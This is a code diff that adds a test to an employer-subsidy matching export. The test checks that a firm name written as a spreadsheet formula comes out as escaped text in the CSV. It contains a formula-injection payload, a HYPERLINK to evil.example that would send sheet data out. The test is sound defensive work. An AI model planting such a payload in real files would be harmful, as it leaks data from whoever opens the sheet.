@@ -13,7 +13,7 @@ import { EMPLOYERS } from '../../cloudfunctions/_shared/repositories/employers'
 import { matchingService } from '../../cloudfunctions/_shared/services/matching'
 import type { StoredFile } from '../../cloudfunctions/_shared/storage'
 import { ADMIN, contextFor, downloadText, testProfile } from '../helpers/context'
-import { FIRM_A, makeWorld, SEEKER, UNVERIFIED, type World } from '../helpers/firms'
+import { CODES, FIRM_A, makeWorld, SEEKER, UNVERIFIED, type World } from '../helpers/firms'
 
 let w: World
 beforeEach(async () => {
@@ -154,6 +154,22 @@ describe('admin.runMatching over firms straddling every boundary of measures 15 
     expect(lines.filter((l) => l.startsWith('第21条,吸纳就业补助,符合,批量企业'))).toHaveLength(250)
     expect(lines).toContain('第21条,吸纳就业补助,符合,批量企业0,' + `TEST${String(seq - 249).padStart(14, '0')}` + ',太原市,小店区,2000,,"1,000元 × 2人 = 2,000元",')
     expect(csv.rows).toBe(lines.length - 1)
+  })
+
+  it('exports a firm named like a spreadsheet formula as text, never as a formula', async () => {
+    // The bureau opens the file in a spreadsheet: a cell starting with = would run as a formula (a link that leaks the sheet).
+    const formula = '=HYPERLINK("http://evil.example/x?"&A1,"点此领取补贴")'
+    const id = await w.register('u-formula-firm', CODES.spare, { name: formula })
+    expect(await w.review({ target: 'employer', id, decision: 'approve' })).toMatchObject({ ok: true })
+    await w.ok('account', 'u-formula-firm', { action: 'updateFacts', facts: { sizeClass: 'micro', newHires: 2 } })
+    const { run } = await runAll('2026-11-28')
+    const csv = await w.ok<{ file: StoredFile }>('admin', ADMIN, { action: 'exportMatching', runId: run.runId })
+    const lines = downloadText(csv.file).split('\r\n')
+    expect(lines.filter((l) => l.includes('HYPERLINK'))).toContain(
+      `第21条,吸纳就业补助,符合,"'=HYPERLINK(""http://evil.example/x?""&A1,""点此领取补贴"")",${CODES.spare},太原市,小店区,2000,,"1,000元 × 2人 = 2,000元",`,
+    )
+    // No cell of any row starts a formula.
+    expect(lines.filter((l) => /(^|,)"?[=+\-@]/.test(l))).toEqual([])
   })
 })
 
